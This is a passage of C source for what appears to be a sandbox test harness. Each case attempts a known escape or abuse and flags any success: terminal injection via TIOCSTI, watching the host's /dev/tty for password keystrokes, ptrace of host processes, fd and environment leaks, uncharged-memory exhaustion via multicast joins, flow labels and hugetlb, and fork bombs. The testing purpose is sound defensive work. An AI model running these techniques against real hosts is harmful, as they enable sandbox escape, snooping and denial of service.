    uint32_t type, size;
  } pattr = {1 /* PERF_TYPE_SOFTWARE */, 128};
  char big[128] = {0};

  (void)arg;
  memcpy(big, &pattr, sizeof(pattr));
  must_fail(r, "bpf", syscall(SYS_bpf, 0, big, 48));
  must_fail(r, "perf_event_open",
            syscall(SYS_perf_event_open, big, 0, -1, -1, 0));
  must_fail(r, "userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
  must_fail(r, "keyctl", syscall(SYS_keyctl, 1 /* JOIN_SESSION */, "attack"));
  must_fail(r, "add_key",
            syscall(SYS_add_key, "user", "attack", "x", 1, -3 /* SESSION */));
  must_fail(r, "io_uring_setup", syscall(SYS_io_uring_setup, 8, big));
  must_fail(r, "init_module", syscall(SYS_init_module, big, 0, ""));
  must_fail(r, "kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  must_fail(r, "syslog", syscall(SYS_syslog, 3, big, sizeof(big)));
  must_fail(r, "ptrace(TRACEME)", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
}

/* KSM: prctl(PR_SET_MEMORY_MERGE) and madvise(MADV_MERGEABLE) offered
 * the skill's pages for merging with identical pages of the host's other
 * processes (a virtual machine's memory among them) where the host runs
 * KSM, whose copy on a write then times as a probe of their contents. */
static void case_ksm(struct res *r, const char *arg) {
  const long merge = 67; /* PR_SET_MEMORY_MERGE, Linux 6.4 */
  char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

  (void)arg;
  if (page == MAP_FAILED) {
    esc(r, "mmap:%s", ename(errno));
    return;
  }
  must_fail(r, "prctl(PR_SET_MEMORY_MERGE)", prctl(merge, 1, 0, 0, 0));
  must_fail(r, "prctl(PR_SET_MEMORY_MERGE|1<<32)",
            syscall(SYS_prctl, (unsigned long)merge | (1UL << 32), 1, 0, 0, 0));
  must_fail(r, "madvise(MADV_MERGEABLE)", madvise(page, 4096, MADV_MERGEABLE));
  /* The other advice stays: allocators use it. */
  if (madvise(page, 4096, MADV_DONTNEED) < 0)
    esc(r, "madvise(MADV_DONTNEED) refused:%s", ename(errno));
  munmap(page, 4096);
}

/* ---------------------------------------------- processes outside */

/* Signals and ptrace against a host process (pid passed in): the pid
 * namespace must hide it; kill(-1) must not reach it either. */
static void case_host_pid(struct res *r, const char *arg) {
  pid_t pid = (pid_t)atoi(arg);
  char path[64], buf[8];
  struct iovec l = {buf, sizeof(buf)}, rm = {(void *)0x400000, sizeof(buf)};
  struct stat st;

  if (pid <= 1) {
    esc(r, "bad pid argument");
    return;
  }
  snprintf(path, sizeof(path), "/proc/%d", pid);
  must_fail(r, "stat /proc/PID", stat(path, &st));
  must_fail(r, "kill(0)", kill(pid, 0));
  must_fail(r, "kill(SIGKILL)", kill(pid, SIGKILL));
  must_fail(r, "pidfd_open", syscall(SYS_pidfd_open, pid, 0));
  must_fail(r, "ptrace(ATTACH)", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
  must_fail(r, "ptrace(SEIZE)", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
  must_fail(r, "process_vm_readv", process_vm_readv(pid, &l, 1, &rm, 1, 0));
  must_fail(r, "ptrace(ATTACH, 1)", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
  /* kill(-1) signals everything the caller may signal except itself and
   * init; the host process must survive it (checked from outside). */
  if (kill(-1, SIGKILL) == 0)
    how(r, "kill(-1) reached only the sandbox");
  else
    how(r, "kill(-1):%s", ename(errno));
}

/* ------------------------------------------------ terminal injection */

/* CVE-2017-5226 (bubblewrap) and CVE-2016-7545 (SELinux sandbox): TIOCSTI
 * pushes characters into the caller's terminal input; TIOCLINUX too. */
static void case_tiocsti(struct res *r, const char *arg) {
  char c = '#';
  int fds[4] = {0, 1, 2, -1};
  char what[64];

  (void)arg;
  fds[3] = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
  if (fds[3] < 0)
    how(r, "/dev/tty:%s", ename(errno));
  for (int i = 0; i < 4; i++) {
    if (fds[i] < 0)
      continue;
    if (isatty(fds[i]))
      esc(r, "fd %d is a terminal", i == 3 ? -1 : fds[i]);
    snprintf(what, sizeof(what), "TIOCSTI(%s)",
             i == 3 ? "/dev/tty"
                    : (i == 0   ? "0"
                       : i == 1 ? "1"
                                : "2"));
    must_fail(r, what, ioctl(fds[i], TIOCSTI, &c));
    /* The high bits of the ioctl number are ignored by the kernel: the
     * variant that slipped past older filters. */
    must_fail(
        r, "TIOCSTI|1<<32",
        syscall(SYS_ioctl, fds[i], (unsigned long)TIOCSTI | (1UL << 32), &c));
  }
  if (fds[3] >= 0)
    close(fds[3]);
  /* setsid made a fresh session: the skill cannot take the caller's tty. */
  if (getsid(0) != getpid())
    esc(r, "not a session leader (sid %d)", getsid(0));
}

/* The host's /dev/tty under inotify(7): a watch is on the inode, and
 * the view's /dev/tty was the host's devtmpfs node, so the skill saw
 * every read and write any host process made through its own /dev/tty:
 * one IN_ACCESS for each byte of a password that ssh or sudo reads from
 * the user's terminal.  ARG: seconds to wait for an event after the line
 * "ttywatch: watching" (the test then uses its /dev/tty on the host). */
static void case_ttywatch(struct res *r, const char *arg) {
  const int secs = arg && *arg ? atoi(arg) : 10;
  char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
  int fd = inotify_init1(IN_CLOEXEC), events = 0;
  struct pollfd p = {.fd = fd, .events = POLLIN};

  if (fd < 0) {
    how(r, "inotify_init1:%s", ename(errno));
    return;
  }
  if (inotify_add_watch(fd, "/dev/tty", IN_ACCESS | IN_MODIFY | IN_OPEN) < 0) {
    how(r, "watch /dev/tty:%s", ename(errno));
    close(fd);
    return;
  }
  printf("ttywatch: watching\n");
  fflush(stdout);
  if (poll(&p, 1, secs * 1000) > 0) {
    ssize_t n = read(fd, buf, sizeof(buf));
    for (ssize_t off = 0; off < n;
         off += (ssize_t)sizeof(struct inotify_event) +
                ((struct inotify_event *)(buf + off))->len)
      events++;
  }
  if (events)
    esc(r, "%d events of the host's /dev/tty", events);
  else
    how(r, "watched /dev/tty, no event in %d s", secs);
  close(fd);
}

/* Line disciplines: TIOCSETD on a terminal of the skill's own devpts
 * reached every discipline the kernel has, each its own parser of what is
 * written to the terminal (n_hdlc's double free, CVE-2017-2636; n_gsm's
 * use-after-free, CVE-2023-6546), and had the kernel load the module of
 * one it had not (dev.tty.ldisc_autoload).  N_TTY, the discipline the
 * terminal has, proves the refusal is not the kernel's: switching to it
 * succeeds wherever the call gets through.  The terminal itself must keep
 * working: isatty and the window size are what skills use. */
static void case_ldisc(struct res *r, const char *arg) {
  static const struct {
    int disc;
    const char *name;
  } discs[] = {{0, "N_TTY"}, {13, "N_HDLC"}, {21, "N_GSM0710"}, {27, "N_NULL"}};
  struct winsize ws;
  char what[64];
  int m, s, d = -1;

  (void)arg;
  m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (m < 0 || unlockpt(m) < 0 || !ptsname(m)) {
    esc(r, "cannot make a terminal to attack: %s", ename(errno));
    return;
  }
  s = open(ptsname(m), O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (s < 0) {
    esc(r, "cannot open the terminal: %s", ename(errno));
    close(m);
    return;
  }
  if (ioctl(s, TIOCGETD, &d) < 0 || d != 0)
    how(r, "TIOCGETD:%d:%s", d, ename(errno));
  for (size_t i = 0; i < sizeof(discs) / sizeof(discs[0]); i++) {
    d = discs[i].disc;
    snprintf(what, sizeof(what), "TIOCSETD(%s)", discs[i].name);
    must_fail(r, what, ioctl(s, TIOCSETD, &d));
  }
  d = 0;
  must_fail(r, "TIOCSETD|1<<32",
            syscall(SYS_ioctl, s, (unsigned long)TIOCSETD | (1UL << 32), &d));
  how(r, "isatty=%d", isatty(s));
  how(r, "TIOCGWINSZ=%s", ioctl(s, TIOCGWINSZ, &ws) == 0 ? "ok" : ename(errno));
  close(s);
  close(m);
}

/* ------------------------------------------------ inherited signals */

/* The caller's signal state must not reach the skill: an ignored SIGTERM
 * or SIGHUP survives execve(2) and would keep a skill from ending the
 * way its own code expects; glibc's sigaction() cannot reset signals 32
 * and 33, so a launcher using it passes those on.  Nothing ignored and
 * nothing blocked, as in a fresh process. */
static void case_signals(struct res *r, const char *arg) {
  static const char *const keys[] = {"SigIgn:", "SigBlk:"};
  FILE *f = fopen("/proc/self/status", "re");
  char line[256];
  int seen = 0;

  (void)arg;
  if (!f) {
    esc(r, "/proc/self/status: %s", ename(errno));
    return;
  }
  while (fgets(line, sizeof(line), f))
    for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++) {
      size_t n = strlen(keys[i]);
      unsigned long long set;

      if (strncmp(line, keys[i], n) != 0)
        continue;
      seen++;
      set = strtoull(line + n, NULL, 16);
      if (set)
        esc(r, "%.6s %016llx from the caller", keys[i], set);
      else
        how(r, "%.6s 0", keys[i]);
    }
  fclose(f);
  if (seen != 2)
    esc(r, "/proc/self/status has %d of SigIgn and SigBlk", seen);
}

/* ------------------------------------------------------ fd leaks */

/* CVE-2024-21626 (runc), CVE-2016-9962 (runc fd to host): no fd above 2,
 * and 0-2 only /dev/null or pipes to the supervisor. */
static void case_fds(struct res *r, const char *arg) {
  struct rlimit rl;
  char path[64], target[PATH_MAX];
  DIR *d;
  struct dirent *de;
  int dfd;

  (void)arg;
  if (getrlimit(RLIMIT_NOFILE, &rl) < 0 || rl.rlim_cur > 65536)
    rl.rlim_cur = 65536;
  for (int fd = 3; fd < (int)rl.rlim_cur; fd++)
    if (fcntl(fd, F_GETFD) >= 0) {
      snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
      ssize_t n = readlink(path, target, sizeof(target) - 1);
      target[n > 0 ? n : 0] = '\0';
      esc(r, "fd %d open (%s)", fd, target);
    }
  d = opendir("/proc/self/fd");
  if (!d) {
    esc(r, "/proc/self/fd: %s", ename(errno));
    return;
  }
  dfd = dirfd(d);
  while ((de = readdir(d))) {
    int fd;
    if (de->d_name[0] == '.')
      continue;
    fd = atoi(de->d_name);
    if (fd == dfd)
      continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    target[n > 0 ? n : 0] = '\0';
    if (fd > 2)
      esc(r, "/proc/self/fd/%d -> %s", fd, target);
    else if (strcmp(target, "/dev/null") != 0 &&
             strncmp(target, "pipe:", 5) != 0)
      esc(r, "fd %d is %s", fd, target);
    else
      how(r, "%d:%s", fd, target);
  }
  closedir(d);
}

/* ------------------------------------------------ environment */

/* The caller's environment must not reach the skill: secrets
 * (SECRET_TOKEN), agent sockets (SSH_AUTH_SOCK), loader injection
 * (LD_PRELOAD, CVE-2010-3856-style), shell startup hooks (BASH_ENV).  ARG:
 * NAME,...,=EULAV: names that must be unset and a secret value, given
 * reversed so that the command line itself does not carry it, that must
 * appear nowhere, not even in pid 1's environ or cmdline. */
static void case_env(struct res *r, const char *arg) {
  char *copy = strdup(arg), *save = NULL, *tok;
  const char *secret = NULL;
  static const char *const files[] = {"/proc/self/environ", "/proc/1/environ",
                                      "/proc/1/cmdline", "/proc/self/cmdline"};

  if (!copy)
    exit(2);
  for (tok = strtok_r(copy, ",", &save); tok;
       tok = strtok_r(NULL, ",", &save)) {
    if (tok[0] == '=') {
      size_t l = strlen(tok + 1);
      for (size_t i = 0; i < l / 2; i++) {
        char c = tok[1 + i];
        tok[1 + i] = tok[l - i];
        tok[l - i] = c;
      }
      secret = tok + 1;
      continue;
    }
    if (getenv(tok))
      esc(r, "%s=%s", tok, getenv(tok));
  }
  for (char **e = environ; secret && *e; e++)
    if (strstr(*e, secret))
      esc(r, "secret in environ (%s)", *e);
  for (size_t i = 0; secret && i < sizeof(files) / sizeof(files[0]); i++) {
    char buf[65536];
    int fd = open(files[i], O_RDONLY | O_CLOEXEC);
    ssize_t n;

    if (fd < 0) {
      how(r, "%s:%s", files[i], ename(errno));
      continue;
    }
    n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n < 0) {
      how(r, "%s:%s", files[i], ename(errno));
      continue;
    }
    for (ssize_t j = 0; j < n; j++)
      if (buf[j] == '\0')
        buf[j] = '\n';
    buf[n] = '\0';
    if (strstr(buf, secret))
      esc(r, "secret in %s", files[i]);
  }
  how(r, "no caller variable");
  free(copy);
}

/* ---------------------------------------------------- sockets */

/* Abstract unix sockets are scoped by network namespace: a host listener
 * (X11's @/tmp/.X11-unix, containerd's shim socket in CVE-2020-15257) must
 * be unreachable. */
static void case_abstract(struct res *r, const char *arg) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t len = strlen(arg);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

  if (fd < 0) {
    how(r, "socket:%s", ename(errno));
    return;
  }
  if (len > sizeof(a.sun_path) - 1)
    len = sizeof(a.sun_path) - 1;
  memcpy(a.sun_path + 1, arg, len);
  must_fail(
      r, "connect @name",
      connect(fd, (struct sockaddr *)&a,
              (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)));
  close(fd);
}

/* Host unix sockets by path (docker.sock, the D-Bus system bus, an
 * ssh-agent socket in /tmp): none exists in the sandbox's view. */
static void case_unix_path(struct res *r, const char *arg) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

  if (fd < 0) {
    how(r, "socket:%s", ename(errno));
    return;
  }
  snprintf(a.sun_path, sizeof(a.sun_path), "%s", arg);
  must_fail(r, "connect", connect(fd, (struct sockaddr *)&a, sizeof(a)));
  close(fd);
}

/* Network reach with the network denied: the host's 127.0.0.1 (services
 * bound to loopback, CVE-2020-8558 "localhost boundary" bypass) and any
 * outside address. ARG: ADDR:PORT. */
static void case_tcp(struct res *r, const char *arg) {
  struct sockaddr_in a = {.sin_family = AF_INET};
  char host[64];
  const char *colon = strrchr(arg, ':');
  int fd;

  if (!colon || (size_t)(colon - arg) >= sizeof(host)) {
    esc(r, "bad argument");
    return;
  }
  memcpy(host, arg, (size_t)(colon - arg));
  host[colon - arg] = '\0';
  a.sin_port = htons((uint16_t)atoi(colon + 1));
  if (inet_pton(AF_INET, host, &a.sin_addr) != 1) {
    esc(r, "bad address");
    return;
  }
  fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    how(r, "socket:%s", ename(errno));
    return;
  }
  must_fail(r, "connect", connect(fd, (struct sockaddr *)&a, sizeof(a)));
  close(fd);
  fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd >= 0) {
    /* Loopback UDP stays on the sandbox's own lo (the host listener checks
     * nothing arrived); anything else has no route. */
    if (sendto(fd, "attack", 6, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
      how(r, "udp:%s", ename(errno));
    close(fd);
  }
}

/* Raw and packet sockets (CVE-2020-14386 AF_PACKET overflow, ARP/route
 * spoofing) need CAP_NET_RAW; only lo may exist. */
static void case_raw(struct res *r, const char *arg) {
  /* The interfaces from /proc/net/dev: if_nameindex(3) asks over
   * rtnetlink, which the filter refuses, and would find none. */
  FILE *dev = fopen("/proc/net/dev", "re");
  char line[256];
  unsigned lines = 0;
  int fd;

  (void)arg;
  fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0003));
  must_fail(r, "AF_PACKET", fd);
  if (fd >= 0)
    close(fd);
  fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
  must_fail(r, "SOCK_RAW", fd);
  if (fd >= 0)
    close(fd);
  if (!dev) {
    esc(r, "/proc/net/dev unreadable (%s): the interfaces are not checked",
        ename(errno));
    return;
  }
  /* Two header lines, then "NAME: counters..." an interface each. */
  while (fgets(line, sizeof(line), dev))
    if (++lines > 2) {
      char *colon = strchr(line, ':'), *name = line;

      if (!colon)
        continue;
      *colon = '\0';
      name += strspn(name, " ");
      if (strcmp(name, "lo") != 0)
        esc(r, "interface %s", name);
    }
  if (lines < 3)
    esc(r, "/proc/net/dev lists no interface: the interfaces are not checked");
  fclose(dev);
}

/* Socket protocols beyond TCP and UDP (issue 14, item 8): the filter used
 * to look at the family and type only, so UDP-Lite, MPTCP and SCTP
 * sockets, each more kernel code, could be created.  And rtnetlink's:
 * a skill that sent RTM_GETLINK requests on hundreds of them and never
 * read the replies held gigabytes of the host's memory (no cgroup is
 * charged for them) in a run that ended succeeded.  The ordinary ones
 * must still work: a refused TCP or UDP socket is reported as an escape
 * too, since it means the filter is wrong. */
static void case_sockproto(struct res *r, const char *arg) {
  static const struct {
    const char *name;
    int family, type, protocol;
    bool ok;
  } t[] = {
      {"tcp4", AF_INET, SOCK_STREAM, 0, true},
      {"tcp4-explicit", AF_INET, SOCK_STREAM, IPPROTO_TCP, true},
      {"udp6-explicit", AF_INET6, SOCK_DGRAM, IPPROTO_UDP, true},
      {"udplite4", AF_INET, SOCK_DGRAM, 136 /* IPPROTO_UDPLITE */, false},
      {"udplite6", AF_INET6, SOCK_DGRAM, 136, false},
      {"mptcp4", AF_INET, SOCK_STREAM, 262 /* IPPROTO_MPTCP */, false},
      {"mptcp6", AF_INET6, SOCK_STREAM, 262, false},
      {"sctp4", AF_INET, SOCK_STREAM, 132 /* IPPROTO_SCTP */, false},
      {"sctp4-seq", AF_INET, SOCK_SEQPACKET, 132, false},
      {"tcp-as-dgram", AF_INET, SOCK_DGRAM, IPPROTO_TCP, false},
      /* Replies queued on a netlink socket are charged to no cgroup. */
      {"netlink-route", AF_NETLINK, SOCK_RAW, 0 /* NETLINK_ROUTE */, false},
      {"netlink-route-dgram", AF_NETLINK, SOCK_DGRAM, 0, false},
      {"netlink-sock-diag", AF_NETLINK, SOCK_DGRAM, 4 /* NETLINK_SOCK_DIAG */,
       false},
  };

  (void)arg;
  for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
    int fd = socket(t[i].family, t[i].type | SOCK_CLOEXEC, t[i].protocol);
    int e = errno;
    if (fd >= 0)
      close(fd);
    if (t[i].ok && fd < 0)
      esc(r, "%s refused (%s): the filter is wrong", t[i].name, ename(e));
    else if (!t[i].ok) {
      errno = e;
      must_fail(r, t[i].name, fd);
    }
  }
}

/* Huge pages (hugetlb) are charged to no memory cgroup and not seen by
 * the sampler: on a host with a pool, or allowed to overcommit one, a
 * skill took them past its memory limit.  Each way to ask for them must
 * be refused by the filter (EPERM, or ENOSYS where a sampled run refuses
 * the call whole), not answered by the kernel, which says ENOMEM without
 * a pool and makes a hugetlb memfd all the same. */
static void hugetlb_refused(struct res *r, const char *what, long rc) {
  int e = errno;

  if (rc >= 0)
    esc(r, "%s succeeded", what);
  else if (e != EPERM && e != ENOSYS)
    esc(r, "%s reached the kernel (%s)", what, ename(e));
  else
    how(r, "%s:%s", what, ename(e));
}

static void case_hugetlb(struct res *r, const char *arg) {
  long m, fd, id;

  (void)arg;
  m = syscall(SYS_mmap, 0L, 2L << 20, (long)(PROT_READ | PROT_WRITE),
              (long)(MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB), -1L, 0L);
  hugetlb_refused(r, "mmap-hugetlb", m == -1 ? -1 : 0);
  if (m != -1)
    munmap((void *)m, 2 << 20);
  fd = syscall(SYS_memfd_create, "attack", MFD_CLOEXEC | MFD_HUGETLB);
  hugetlb_refused(r, "memfd-hugetlb", fd);
  if (fd >= 0)
    close((int)fd);
  id = shmget(IPC_PRIVATE, 2 << 20, IPC_CREAT | SHM_HUGETLB | 0600);
  hugetlb_refused(r, "shmget-hugetlb", id);
  if (id >= 0)
    shmctl((int)id, IPC_RMID, NULL);
}

/* Multicast group memberships (and IPv6 anycast ones, and source
 * filters, and below the keys and headers kept the same way): each is a
 * record on the socket (up to net.core.optmem_max a
 * socket) and one on the device, charged to no memory cgroup; 1000 UDP
 * sockets joining 2340 IPv6 groups each on lo held 300 MB past a 64 MiB
 * limit, and leaving them at exit took 23 s of kernel time past the CPU
 * budget.  Each way to join must be refused by the filter (EPERM), not
 * answered by the kernel (which joins on lo); the options that hold
 * nothing must still work: one refused is reported as an escape, since it
 * means the filter is wrong. */
static void mcast_refused(struct res *r, const char *what, int fd, int level,
                          int option, const void *v, socklen_t len) {
  int rc = setsockopt(fd, level, option, v, len);

  if (rc == 0)
    esc(r, "%s joined", what);
  else if (errno != EPERM)
    esc(r, "%s reached the kernel (%s)", what, ename(errno));
  else
    how(r, "%s:%s", what, ename(errno));
}

/* IPv6 flow labels: the kernel keeps at most 4096 for the whole host and
 * refuses an unprivileged caller once fewer than 1024 are free; a skill
 * took 3072 (each lingering up to 150 s after its socket is closed, past
 * the run with the host's network) and left none to any other user.  One
 * made is one too many. */
static void case_flowlabel(struct res *r, const char *arg) {
  struct in6_flowlabel_req q = {.flr_label = htonl(0x5eed1),
                                .flr_action = IPV6_FL_A_GET,
                                .flr_share = IPV6_FL_S_EXCL,
                                .flr_flags = IPV6_FL_F_CREATE,
                                .flr_linger = 150};
  int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

  (void)arg;
  if (fd < 0) {
    esc(r, "no UDP socket (%s): the filter is wrong", ename(errno));
    return;
  }
  q.flr_dst = in6addr_loopback;
  if (setsockopt(fd, IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, &q, sizeof(q)) == 0)
    esc(r, "made a flow label, of the host's 4096");
  else if (errno != EPERM)
    esc(r, "IPV6_FLOWLABEL_MGR reached the kernel (%s)", ename(errno));
  else
    how(r, "IPV6_FLOWLABEL_MGR:%s", ename(errno));
  close(fd);
}

static void case_mcast(struct res *r, const char *arg) {
  const int one = 1;
  struct ipv6_mreq m6 = {.ipv6mr_interface = 1 /* lo */};
  struct ip_mreqn m4 = {.imr_ifindex = 1};
  struct group_req g = {.gr_interface = 1};
  struct sockaddr_in6 *g6 = (struct sockaddr_in6 *)&g.gr_group;
  int fd6 = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  int fd4 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

  (void)arg;
  if (fd6 < 0 || fd4 < 0) {
    esc(r, "no UDP socket (%s): the filter is wrong", ename(errno));
    goto out;
  }
  inet_pton(AF_INET6, "ff02::5eed:1", &m6.ipv6mr_multiaddr);
  mcast_refused(r, "IPV6_ADD_MEMBERSHIP", fd6, IPPROTO_IPV6,
                IPV6_ADD_MEMBERSHIP, &m6, sizeof(m6));
  g6->sin6_family = AF_INET6;
  inet_pton(AF_INET6, "ff02::5eed:2", &g6->sin6_addr);
  mcast_refused(r, "MCAST_JOIN_GROUP6", fd6, IPPROTO_IPV6, MCAST_JOIN_GROUP, &g,
                sizeof(g));
  inet_pton(AF_INET, "239.1.2.3", &m4.imr_multiaddr);
  inet_pton(AF_INET, "127.0.0.1", &m4.imr_address);
  mcast_refused(r, "IP_ADD_MEMBERSHIP", fd4, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m4,
                sizeof(m4));
  memset(&g, 0, sizeof(g));
  g.gr_interface = 1;
  ((struct sockaddr_in *)&g.gr_group)->sin_family = AF_INET;
  inet_pton(AF_INET, "239.1.2.4",
            &((struct sockaddr_in *)&g.gr_group)->sin_addr);
  mcast_refused(r, "MCAST_JOIN_GROUP4", fd4, IPPROTO_IP, MCAST_JOIN_GROUP, &g,
                sizeof(g));
  if (setsockopt(fd4, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0)
    esc(r, "SO_REUSEADDR refused (%s): the filter is wrong", ename(errno));
  if (setsockopt(fd4, IPPROTO_IP, IP_MULTICAST_LOOP, &one, sizeof(one)) < 0)
    esc(r, "IP_MULTICAST_LOOP refused (%s): the filter is wrong", ename(errno));
  if (setsockopt(fd6, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof(one)) < 0)
    esc(r, "IPV6_V6ONLY refused (%s): the filter is wrong", ename(errno));
  /* The same uncharged memory: an IPv6 extension header kept on the
   * socket (a segment routing header, which needs no privilege), and
   * TCP-MD5 keys (900 sockets with 963 each held 163 MiB past a 64 MiB
   * limit). */
  {
    unsigned char rt[24] = {0, 2, 4, 0};
    struct tcp_md5sig md5 = {.tcpm_keylen = 16};
    struct sockaddr_in *peer = (struct sockaddr_in *)&md5.tcpm_addr;
    int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    rt[8 + 15] = 1; /* ::1 */
    mcast_refused(r, "IPV6_RTHDR", fd6, IPPROTO_IPV6, IPV6_RTHDR, rt,
                  sizeof(rt));
    peer->sin_family = AF_INET;
    inet_pton(AF_INET, "127.0.0.2", &peer->sin_addr);
    if (tcp < 0)
      esc(r, "no TCP socket (%s): the filter is wrong", ename(errno));
    else {
      mcast_refused(r, "TCP_MD5SIG", tcp, IPPROTO_TCP, TCP_MD5SIG, &md5,
                    sizeof(md5));
      if (setsockopt(tcp, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one)) < 0)
        esc(r, "TCP_NODELAY refused (%s): the filter is wrong", ename(errno));
      /* A classic filter: its copy uncharged, its JIT code the host's. */
      {
        struct sock_filter accept_all = BPF_STMT(BPF_RET | BPF_K, 0xffff);
        struct sock_fprog prog = {.len = 1, .filter = &accept_all};
        /* On the UDP socket: on a TCP one the kernel says EPERM too. */
        mcast_refused(r, "SO_ATTACH_FILTER", fd4, SOL_SOCKET, SO_ATTACH_FILTER,
                      &prog, sizeof(prog));
      }
      close(tcp);
    }
  }
out:
  if (fd6 >= 0)
    close(fd6);
  if (fd4 >= 0)
    close(fd4);
}

/* Another process's resource limits (issue 14, item 8): prlimit64 on pid
 * 1, init, which runs as the same user, used to succeed.  ARG: unused.
 * The skill's own limits (pid 0) must still be readable and lowerable. */
static void case_prlimit(struct res *r, const char *arg) {
  struct rlimit cur, low;

  (void)arg;
  if (prlimit(0, RLIMIT_NOFILE, NULL, &cur) < 0) {
    esc(r, "prlimit(0) refused (%s): the filter is wrong", ename(errno));
    return;
  }
  low = cur;
  if (low.rlim_cur > 64)
    low.rlim_cur = 64;
  if (prlimit(0, RLIMIT_NOFILE, &low, NULL) < 0)
    esc(r, "lowering its own limit refused (%s)", ename(errno));
  must_fail(r, "read1", prlimit(1, RLIMIT_NOFILE, NULL, &cur));
  low.rlim_cur = low.rlim_max = 1;
  must_fail(r, "set1", prlimit(1, RLIMIT_NOFILE, &low, NULL));
  must_fail(r, "setself", prlimit(getpid(), RLIMIT_NOFILE, &low, NULL));
}

/* ------------------------------------------------------- IPC */

/* SysV IPC and POSIX message queues created on the host (the classic
 * shared-IPC-namespace leak, CVE-2021-... --ipc=host misuse): invisible
 * by key and by id.  ARG: KEY:SHMID:MSQID:SEMID. */
static void case_sysv(struct res *r, const char *arg) {
  key_t key;
  int shmid = -1, msqid = -1, semid = -1;
  struct shmid_ds sds;
  struct msqid_ds mds;
  void *p;

  if (sscanf(arg, "%i:%i:%i:%i", &key, &shmid, &msqid, &semid) != 4) {
    esc(r, "bad argument");
    return;
  }
  must_fail(r, "shmget(key)", shmget(key, 0, 0));
  must_fail(r, "msgget(key)", msgget(key, 0));
  must_fail(r, "semget(key)", semget(key, 0, 0));
  must_fail(r, "shmctl(id)", shmctl(shmid, IPC_STAT, &sds));
  p = shmat(shmid, NULL, 0);
  must_fail(r, "shmat(id)", p == (void *)-1 ? -1 : 0);
  if (p != (void *)-1)
    (void)shmdt(p);
  must_fail(r, "msgctl(id)", msgctl(msqid, IPC_STAT, &mds));
  must_fail(r, "semctl(id)", semctl(semid, 0, GETVAL));
  /* Removal by id must not reach the host's either. */
  must_fail(r, "shmctl(IPC_RMID)", shmctl(shmid, IPC_RMID, NULL));
  must_fail(r, "msgctl(IPC_RMID)", msgctl(msqid, IPC_RMID, NULL));
}

static void case_mq(struct res *r, const char *arg) {
  mqd_t q = mq_open(arg, O_RDWR);
  must_fail(r, "mq_open", q == (mqd_t)-1 ? -1 : 0);
  if (q != (mqd_t)-1)
    mq_close(q);
  must_fail(r, "mq_unlink", mq_unlink(arg));
}

/* ------------------------------------------------- resource abuse */

/* Fork bomb: must stop at the pids limit (RLIMIT_NPROC here; pids.max
 * with a cgroup), and the whole tree dies with the run. */
static void case_forkbomb(struct res *r, const char *arg) {
  long max = arg && *arg ? atol(arg) : 100000;
  long n = 0;

  for (; n < max; n++) {
    pid_t pid = fork();
    if (pid < 0) {
      how(r, "fork:%s after %ld", ename(errno), n);
      return;
    }
    if (pid == 0) {
      /* Children sit until the run kills them. */
      for (;;)
        pause();
    }
  }
  esc(r, "%ld forks succeeded", n);
}

/* Memory hog: ARG MiB touched; must fail (RLIMIT_AS here, memory.max
 * with a cgroup, where the OOM kill ends the run instead). */
static void case_memhog(struct res *r, const char *arg) {
  long mib = atol(arg), got = 0;

  for (; got < mib; got++) {
    char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      how(r, "mmap:%s after %ld MiB", ename(errno), got);
      return;
    }
    memset(p, 0xa5, 1 << 20);
  }
  esc(r, "%ld MiB allocated", got);
}

/* Shared memory held behind one page: ARG KIND:MiB, KIND anon
 * (MAP_SHARED|MAP_ANONYMOUS) or zero (MAP_SHARED of /dev/zero), both a
 * shmem object of the kernel's.  64 MiB mapped and filled, then all but
 * its first page unmapped, again and again: the kernel keeps every page
 * of each object while a page of it is mapped, but a count of what is
 * mapped sees one page of each (the supervisor's sampler did, which let
 * 2 GiB through a 256 MiB limit).  Blocked when the mapping is refused
 * or when the run is stopped (then there is no line: the test reads the
 * run's status). */
static void case_shmhog(struct res *r, const char *arg) {
  const size_t chunk = (size_t)64 << 20;
  const char *colon = strchr(arg, ':');
